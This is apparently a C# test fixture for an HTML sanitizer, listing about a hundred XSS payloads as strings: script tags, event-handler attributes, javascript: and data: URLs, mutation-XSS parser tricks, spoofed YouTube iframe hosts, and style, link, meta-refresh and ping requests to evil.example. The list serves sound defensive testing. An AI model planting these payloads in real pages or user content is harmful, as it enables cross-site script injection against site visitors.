namespace Syndication.Browser.Tests.Cleaning;

/// <summary>Hostile markup written for this project, one trick a line.</summary>
internal static class Payloads
{
    /// <summary>Those that run by themselves in today's Chromium.</summary>
    public static readonly string[] ThatRun =
    [
        "<script>alert(1)</script>",
        "<img src=x: onerror=alert(2)>",
        "<svg onload=alert(3)></svg>",
        "<body onload=alert(4)>",
        "<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
        "<iframe src=\"javascript:parent.alert(6)\"></iframe>",
        "<details open ontoggle=alert(7)><summary>a</summary></details>",
        "<p onmouseover=alert(8)>a</p>",
        "<svg><script>alert(9)</script></svg>",
        "<a href=javascript:alert(10)>a</a>",
        "<a href='&#1; &#9;java&#10;script:alert(11)'>a</a>",
        "<input autofocus onfocus=alert(12)>",
        "<form action=javascript:alert(13)><button>a</button></form>",
        "<math><mtext><img src=x: onerror=alert(14)></mtext></math>",
        "<video onerror=alert(15)><source src=x:></video>",
        "<noscript><p title='</noscript><img src=x: onerror=alert(16)>'></noscript>",
    ];

    private static readonly string[] Others =
    [
        // Spellings of tags and handlers.
        "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\t>", "<<script>alert(1)//<</script>",
        "<scr<script></script>ipt>alert(1)</script>", "<img/src=x:/onerror=alert(1)//", "<img src='x:'onerror=alert(1)>",
        "<img src=x: oNeRrOr=alert(1)>", "<img src=x: on\u0000error=alert(1)>", "<img \"=\" src=x: onerror=alert(1)>",
        "<x onclick=alert(1)>a</x>", "<x-card onfocus=alert(1) tabindex=1 autofocus>a</x-card>", "</p onclick=alert(1)>",
        // Addresses.
        "<a href='JaVaScRiPt:alert(1)'>a</a>", "<a href='javascript&colon;alert(1)'>a</a>", "<a href='java\u0000script:alert(1)'>a</a>",
        "<a href='&#x6a;avascript:alert(1)'>a</a>", "<a href='vbscript:x'>a</a>", "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
        "<a href=' javascript:alert(1)'>a</a>", "<a href='view-source:javascript:alert(1)'>a</a>", "<a href='blob:https://a/b'>a</a>",
        "<img src='javascript:alert(1)'>", "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'>",
        "<img srcset='javascript:alert(1) 1x, x.jpg 2x'>", "<video poster='javascript:alert(1)' src=a.mp4></video>",
        "<blockquote cite='javascript:alert(1)'>a</blockquote>", "<a href='//[::1'>a</a>", "<base href='javascript:/a/-alert(1)///'><a href=b>a</a>",
        "<a href='https://a.example\" onclick=\"alert(1)'>a</a>", "<a href='http://a`onclick=alert(1)'>a</a>",
        // Frames and plug-ins.
        "<iframe src='https://www.youtube.com/embed/../../x'></iframe>", "<iframe src='https://www.youtube.com.evil.example/embed/a'></iframe>",
        "<iframe src='https://www.youtube.com@evil.example/embed/a'></iframe>", "<iframe src='https://evil.example/?https://www.youtube.com/embed/a'></iframe>",
        "<iframe src='https://www.youtube.com/embed/a' srcdoc='<script>parent.alert(1)</script>' onload=alert(1)></iframe>",
        "<iframe src='//www.youtube.com\\@evil.example/embed/a'></iframe>", "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "<embed src='javascript:alert(1)'>", "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>", "<portal src='https://a.example/'></portal>",
        // Styles, forms and the head.
        "<style>@import 'https://evil.example/a.css';</style>", "<p style='background:url(https://evil.example/a)'>a</p>",
        "<link rel=stylesheet href='https://evil.example/a.css'>", "<link rel=prefetch href='https://evil.example/a'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form id=f><input name=innerHTML></form><button form=f formaction='javascript:alert(1)'>a</button>",
        "<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>b</div>", "<a ping='https://evil.example/' href=/a>a</a>",
        "<img name=body><img id=location><form name=getElementById></form>", "<table background='https://evil.example/a'><tr><td>a</td></tr></table>",
        // Changes of meaning on the second reading.
        "<svg></p><style><a title=\"</style><img src=x: onerror=alert(1)>\">", "<math><mi></p><style><!--</style><img src=x: onerror=alert(1)>--></style>",
        "<svg><style><img src='</style><img src=x: onerror=alert(1)>'></style></svg>", "<svg><title><xmp></title><img src=x: onerror=alert(1)></xmp></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=alert(1)>",
        "<svg><foreignObject><p><iframe><a title='</iframe><img src=x: onerror=alert(1)>'></p></foreignObject></svg>",
        "<math><annotation-xml encoding=text/html><style><img title='</style><img src=x: onerror=alert(1)>'></annotation-xml></math>",
        "<noscript><style></noscript><img src=x: onerror=alert(1)></style>", "<textarea></p><b title='</textarea><img src=x: onerror=alert(1)>'>",
        "<title><a title='</title><img src=x: onerror=alert(1)>'></title>", "<xmp><p title='</xmp><img src=x: onerror=alert(1)>'></xmp>",
        "<plaintext><p title='</plaintext><img src=x: onerror=alert(1)>'>", "<noembed><a title='</noembed><img src=x: onerror=alert(1)>'></noembed>",
        "<template><img src=x: onerror=alert(1)></template>", "<div><template shadowrootmode=open><img src=x: onerror=alert(1)></template></div>",
        "<select><template><style><!--</select><img title='--></style><img src=x: onerror=alert(1)>'></template></select>",
        "<select><iframe></select><img src=x: onerror=alert(1)></iframe></select>", "<p title='&lt;/p&gt;&lt;img src=x: onerror=alert(1)&gt;'>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "&lt;img src=x: onerror=alert(1)&gt;", "<pre>\n\n&lt;img src=x: onerror=alert(1)&gt;</pre>", "<listing>&lt;img src=x: onerror=alert(1)&gt;</listing>",
        "<!--><img src=x: onerror=alert(1)>-->", "<!--!><img src=x: onerror=alert(1)>", "<![CDATA[<img src=x: onerror=alert(1)>]]>", "<?php <img src=x: onerror=alert(1)> ?>",
        "<svg><![CDATA[</svg><img src=x: onerror=alert(1)>]]>", "<p title=`<img src=x: onerror=alert(1)>`>", "<a title=\"x`onmouseover=alert(1)\">a</a>",
        "<b><p><b><table><b><tr><b><td><a href=/x><a href=/y><p>a</table></b>", "<a href=/1><table><a href=/2><tr><td><a href=/3>a",
        "<table><caption><svg><p>a<select><table><td>b", "<button><p><button><p>a", "<p><marquee><p><object><p><table><p>a", "<ul><li><center><li><x-y><li><a href=/a><li>b",
        "<h1><x-y><h2><center><h3>a", "<dl><dt><object><dd><span><dt>a", "<ruby><rt><span><rt><x-y><rp>a", "<svg><a href='javascript:alert(1)'><text>a</text></a></svg>",
        "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'/></svg>",
        "<svg><image href=x: onerror=alert(1)></svg>", "<math href='javascript:alert(1)'><mi>x</mi></math>", "<math><maction xlink:href='javascript:alert(1)'>a</maction></math>",
    ];

    public static readonly string[] All = [.. ThatRun, .. Others];
}
